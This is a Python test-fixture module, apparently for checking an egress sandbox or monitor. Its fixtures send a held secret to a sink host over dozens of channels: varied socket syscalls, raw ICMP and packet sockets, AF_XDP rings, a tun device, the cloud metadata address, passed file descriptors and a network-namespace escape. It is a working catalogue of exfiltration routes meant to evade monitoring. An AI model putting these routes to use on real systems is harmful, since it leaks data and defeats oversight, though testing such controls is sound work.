"""Ways out of the machine, for what is held."""

import ctypes
import fcntl
import mmap
import os
import socket
import struct
import subprocess
import threading

from evade import LIBC, call, checked, child, connect, fixture, main, path, read, send, sink, tmp, wait

V4, V6 = socket.AF_INET, socket.AF_INET6
SINK_V6 = "2001:db8::9"
UDPLITE, SCTP, MPTCP = 136, 132, 262


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_char_p), ("length", ctypes.c_size_t)]


class Header(ctypes.Structure):
    _fields_ = [
        ("name", ctypes.c_char_p), ("name_length", ctypes.c_uint),
        ("vectors", ctypes.POINTER(Vector)), ("count", ctypes.c_size_t),
        ("control", ctypes.c_void_p), ("control_length", ctypes.c_size_t), ("flags", ctypes.c_int),
    ]


class Message(ctypes.Structure):
    _fields_ = [("header", Header), ("length", ctypes.c_uint)]


def packed(family, host, port):
    """`struct sockaddr_in` or `sockaddr_in6`."""
    address = socket.inet_pton(family, host)
    if family == V4:
        return struct.pack("=HH", family, socket.htons(port)) + address + bytes(8)
    return struct.pack("=HHI", family, socket.htons(port), 0) + address + bytes(4)


def by_sendmmsg(stream, data, name=None):
    vector = Vector(data, len(data))
    message = Message(Header(vectors=ctypes.pointer(vector), count=1))
    if name:
        message.header.name, message.header.name_length = name, len(name)
    LIBC.sendmmsg(stream.fileno(), ctypes.byref(message), 1, 0)


def by_splice(stream, data):
    out, into = os.pipe()
    os.write(into, data)
    os.splice(out, stream.fileno(), len(data))


def by_vmsplice(stream, data):
    out, into = os.pipe()
    LIBC.vmsplice(into, ctypes.byref(Vector(data, len(data))), 1, 0)
    os.splice(out, stream.fileno(), len(data))


def by_sendfile(stream, data):
    fd = os.memfd_create("x")
    os.write(fd, data)
    os.sendfile(stream.fileno(), fd, 0, len(data))


def by_zero_copy(stream, data):
    stream.setsockopt(socket.SOL_SOCKET, 60, 1)
    stream.send(data, 0x4000000)


BY = {
    "write": lambda stream, data: os.write(stream.fileno(), data),
    "writev": lambda stream, data: os.writev(stream.fileno(), [data[:9], data[9:]]),
    "send": lambda stream, data: stream.send(data),
    "sendmsg": lambda stream, data: stream.sendmsg([data]),
    "sendmmsg": by_sendmmsg,
    "splice": by_splice,
    "vmsplice": by_vmsplice,
    "sendfile": by_sendfile,
    "zero_copy": by_zero_copy,
}


def add(name, what, act, row="B01", **more):
    act.__name__ = name
    fixture(row, what, **more)(act)


def on_old(kind, protocol, family, way):
    """Connected before the file is read: nothing of the connection is new."""

    def act():
        host = sink()[0] if family == V4 else SINK_V6
        stream = socket.socket(family, kind, protocol)
        stream.settimeout(5)
        stream.connect((host, sink()[1]))
        BY[way](stream, read())
        if kind == socket.SOCK_STREAM:
            stream.shutdown(socket.SHUT_WR)
        stream.close()

    return act


for way in BY:
    add(f"tcp_{way}", f"TCP, connected before: {way}", on_old(socket.SOCK_STREAM, 0, V4, way), "B17")
    if way not in ("sendfile", "zero_copy"):
        add(f"udp_{way}", f"UDP, connected before: {way}", on_old(socket.SOCK_DGRAM, 0, V4, way))
    if way in ("write", "sendmsg", "sendmmsg", "splice"):
        add(f"tcp6_{way}", f"TCP over IPv6, connected before: {way}", on_old(socket.SOCK_STREAM, 0, V6, way), "B14")
        add(f"udp6_{way}", f"UDP over IPv6, connected before: {way}", on_old(socket.SOCK_DGRAM, 0, V6, way), "B14")
        add(f"mptcp_{way}", f"MPTCP, connected before: {way}", on_old(socket.SOCK_STREAM, MPTCP, V4, way), "B17")


def unconnected(family, host, way, protocol=0):
    def act():
        data, to = read(), (host or sink()[0], sink()[1])
        stream = socket.socket(family, socket.SOCK_DGRAM, protocol)
        if way == "sendto":
            stream.sendto(data, to)
        elif way == "sendmsg":
            stream.sendmsg([data], [], 0, to)
        else:
            by_sendmmsg(stream, data, packed(family, *to))

    return act


for way in ("sendto", "sendmsg", "sendmmsg"):
    add(f"udp_unconnected_{way}", f"UDP, not connected: {way}", unconnected(V4, None, way))
    add(f"udp6_unconnected_{way}", f"UDP over IPv6, not connected: {way}", unconnected(V6, SINK_V6, way), "B14")


@fixture("B14", "TCP to an IPv4 address in an IPv6 socket")
def mapped_tcp():
    data = read()
    stream = socket.socket(V6)
    stream.settimeout(5)
    stream.connect(("::ffff:" + sink()[0], sink()[1]))
    stream.sendall(data)
    stream.shutdown(socket.SHUT_WR)


add("mapped_udp", "UDP to an IPv4 address in an IPv6 socket",
    lambda: unconnected(V6, "::ffff:" + sink()[0], "sendto")(), "B14")


@fixture("B01", "TCP with data in the first packet (MSG_FASTOPEN)")
def fast_open():
    data = read()
    stream = socket.socket()
    stream.sendto(data, socket.MSG_FASTOPEN, sink())
    stream.shutdown(socket.SHUT_WR)


@fixture("B14", "UDP in fragments")
def fragments():
    stream = socket.socket(V4, socket.SOCK_DGRAM)
    stream.connect(sink())
    data = read()
    stream.send(data + bytes(4000))


@fixture("B14", "UDP over IPv6 with an extension header")
def extension_header():
    stream = socket.socket(V6, socket.SOCK_DGRAM)
    stream.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_DSTOPTS, bytes([0, 0, 1, 4, 0, 0, 0, 0]))
    stream.sendto(read(), (SINK_V6, sink()[1]))


@fixture("B20", "UDP-Lite")
def udp_lite():
    stream = socket.socket(V4, socket.SOCK_DGRAM, UDPLITE)
    data = read()
    stream.connect(sink())
    stream.send(data)


@fixture("B20", "UDP-Lite, not connected")
def udp_lite_sendto():
    socket.socket(V4, socket.SOCK_DGRAM, UDPLITE).sendto(read(), sink())


@fixture("B20", "a socket for echo requests (ping)")
def ping():
    with open("/proc/sys/net/ipv4/ping_group_range", "w") as groups:
        groups.write("0 0")
    stream = socket.socket(V4, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    stream.sendto(struct.pack("!BBHHH", 8, 0, 0, 0, 1) + read(), (sink()[0], 0))


@fixture("B20", "a socket for echo requests, connected before")
def ping_connected():
    with open("/proc/sys/net/ipv4/ping_group_range", "w") as groups:
        groups.write("0 0")
    stream = socket.socket(V4, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    stream.connect((sink()[0], 0))
    stream.send(struct.pack("!BBHHH", 8, 0, 0, 0, 1) + read())


def checksum(data):
    total = sum(struct.unpack(f"!{(len(data) + 1) // 2}H", data + bytes(len(data) % 2)))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def echo(data):
    head = struct.pack("!BBHHH", 8, 0, 0, 7, 1)
    return struct.pack("!BBHHH", 8, 0, checksum(head + data), 7, 1) + data


@fixture("B20", "a raw socket (ICMP)")
def raw_icmp():
    data = read()
    socket.socket(V4, socket.SOCK_RAW, socket.IPPROTO_ICMP).sendto(echo(data), (sink()[0], 0))


@fixture("B20", "a raw socket (ICMP), made and connected before")
def raw_icmp_connected():
    stream = socket.socket(V4, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    stream.connect((sink()[0], 0))
    stream.send(echo(read()))


@fixture("B20", "a raw socket (ICMPv6)")
def raw_icmp6():
    data = read()
    socket.socket(V6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6).sendto(struct.pack("!BBHHH", 128, 0, 0, 7, 1) + data, (SINK_V6, 0))


@fixture("B20", "a raw socket with a header of its own (IPPROTO_RAW)")
def raw_header():
    data = read()
    stream = socket.socket(V4, socket.SOCK_RAW, socket.IPPROTO_RAW)
    body = echo(data)
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 7, 0, 64, 1, 0, bytes(4), socket.inet_aton(sink()[0]))
    stream.sendto(head + body, (sink()[0], 0))


def frame(data, source="203.0.113.1"):
    """An Ethernet frame to everybody, with a datagram for the sink."""
    body = struct.pack("!HHHH", 7, sink()[1], 8 + len(data), 0) + data
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 7, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(sink()[0]))
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    return b"\xff" * 6 + b"\x02" + bytes(5) + b"\x08\x00" + head + body


@fixture("B20", "a packet socket (AF_PACKET)")
def packet():
    data = read()
    stream = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    stream.bind(("job0", 0))
    stream.send(frame(data))


@fixture("B20", "a packet socket (AF_PACKET), made before, by write", enforce="gap", why="packet sockets")
def packet_before():
    stream = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    stream.bind(("job0", 0))
    os.write(stream.fileno(), frame(read()))


@fixture("B20", "a packet socket (AF_PACKET), not bound: sendto")
def packet_sendto():
    data = read()
    stream = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0)
    stream.sendto(frame(data)[14:], ("job0", 0x0800, 0, 0, b"\xff" * 6))


@fixture("B20", "a socket of AF_XDP, by its own ring", twin="none")
def xdp():
    AF_XDP, SOL_XDP, COPY = 44, 283, 2
    TX_RING, UMEM_REG, FILL_RING, COMPLETION_RING = 3, 4, 5, 6
    TX_PAGE, CHUNK, CHUNKS, ENTRIES = 0x80000000, 4096, 4, 4
    packet = frame(read())
    stream = checked(LIBC.socket(AF_XDP, socket.SOCK_RAW, 0))
    room = mmap.mmap(-1, CHUNK * CHUNKS)
    room[: len(packet)] = packet
    start = ctypes.addressof(ctypes.c_char.from_buffer(room))

    def option(name, value):
        checked(LIBC.setsockopt(stream, SOL_XDP, name, value, len(value)))

    # struct xdp_umem_reg, and how many entries each ring has (include/uapi/linux/if_xdp.h).
    option(UMEM_REG, struct.pack("<QQIII4x", start, CHUNK * CHUNKS, CHUNK, 0, 0))
    for ring in (FILL_RING, COMPLETION_RING, TX_RING):
        option(ring, struct.pack("<I", ENTRIES))
    size = ctypes.c_uint32(128)
    offsets = ctypes.create_string_buffer(128)
    checked(LIBC.getsockopt(stream, SOL_XDP, 1, offsets, ctypes.byref(size)))
    # Producer, consumer, descriptors and flags of each: the second is what is sent.
    producer, _, descriptors, _ = struct.unpack_from("<4Q", offsets, 32)
    ring = mmap.mmap(stream, descriptors + ENTRIES * 16, offset=TX_PAGE)
    address = struct.pack("<HHIII", AF_XDP, COPY, socket.if_nametoindex("job0"), 0, 0)
    checked(LIBC.bind(stream, address, len(address)))
    ring[descriptors : descriptors + 16] = struct.pack("<QII", 0, len(packet), 0)
    ring[producer : producer + 4] = struct.pack("<I", 1)
    checked(LIBC.sendto(stream, None, 0, socket.MSG_DONTWAIT, None, 0))


@fixture("B20", "packets written to a network device of its own (/dev/net/tun)", enforce="gap", audit="gap", why="/dev/net/tun")
def tun():
    SET, TUN, BARE = 0x400454CA, 1, 0x1000
    device = os.open("/dev/net/tun", os.O_RDWR)
    fcntl.ioctl(device, SET, struct.pack("16sH22x", b"out0", TUN | BARE))
    for command in ("ip link set out0 up", "ip route add 198.18.0.0/15 dev out0"):
        subprocess.run(command.split(), check=True)
    with open("/proc/sys/net/ipv4/ip_forward", "w") as forward:
        forward.write("1")
    # From an address behind it, or the machine takes it for a lie.
    os.write(device, frame(read(), "198.18.0.2")[14:])


@fixture("B17", "a connection that another process made and passes on")
def passed_on():
    import array

    ours, theirs = socket.socketpair()

    def dial():
        stream = connect()
        theirs.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [stream.fileno()]))])

    pid = child(dial)
    _, told, _, _ = ours.recvmsg(1, socket.CMSG_SPACE(4))
    wait(pid)
    stream = socket.socket(fileno=array.array("i", told[0][2])[0])
    stream.sendall(read())
    stream.shutdown(socket.SHUT_WR)


@fixture("B17", "a connection inherited from a parent that holds nothing, written by cat")
def inherited():
    stream = connect()
    stream.set_inheritable(True)
    os.dup2(stream.fileno(), 1)
    os.execv("/bin/cat", ["cat", path()])


@fixture("B17", "a connection that was kept by a process that held something else before")
def thread_sends():
    data, stream = [], connect()
    ready = threading.Event()

    def later():
        ready.wait()
        stream.sendall(data[0])
        stream.shutdown(socket.SHUT_WR)

    thread = threading.Thread(target=later)
    thread.start()
    data.append(read())
    ready.set()
    thread.join()


@fixture("B18", "a long connection, the secret in its middle")
def middle():
    stream = connect()
    stream.sendall(b"nothing " * 4096)
    data = read()
    stream.sendall(data)
    stream.shutdown(socket.SHUT_WR)


@fixture("B16", "the metadata service's address")
def metadata():
    data = read()
    stream = socket.create_connection(("169.254.169.254", sink()[1]), timeout=5)
    stream.sendall(data)
    stream.shutdown(socket.SHUT_WR)


@fixture("B21", "out of a new network namespace, by a helper outside")
def namespace():
    ours, theirs = socket.socketpair()

    def helper():
        ours.close()
        data = b""
        while piece := theirs.recv(4096):
            data += piece
        send(data)

    pid = child(helper)
    theirs.close()
    if LIBC.unshare(0x40000000) < 0:
        raise OSError(ctypes.get_errno(), "unshare")
    ours.sendall(read())
    ours.shutdown(socket.SHUT_WR)
    wait(pid)


@fixture("B39", "io_submit (aio) on an old connection")
def aio():
    class Request(ctypes.Structure):
        _fields_ = [("data", ctypes.c_uint64), ("key", ctypes.c_uint32), ("flags", ctypes.c_uint32),
                    ("opcode", ctypes.c_uint16), ("priority", ctypes.c_int16), ("fd", ctypes.c_uint32),
                    ("buffer", ctypes.c_uint64), ("bytes", ctypes.c_uint64), ("offset", ctypes.c_int64),
                    ("reserved", ctypes.c_uint64), ("more", ctypes.c_uint32), ("event", ctypes.c_uint32)]

    context = ctypes.c_ulong()
    call(206, 1, ctypes.byref(context))
    stream, data = connect(), read()
    buffer = ctypes.create_string_buffer(data, len(data))
    request = Request(opcode=1, fd=stream.fileno(), buffer=ctypes.addressof(buffer), bytes=len(data))
    requests = (ctypes.POINTER(Request) * 1)(ctypes.pointer(request))
    call(209, context.value, 1, requests)
    stream.shutdown(socket.SHUT_WR)


main()
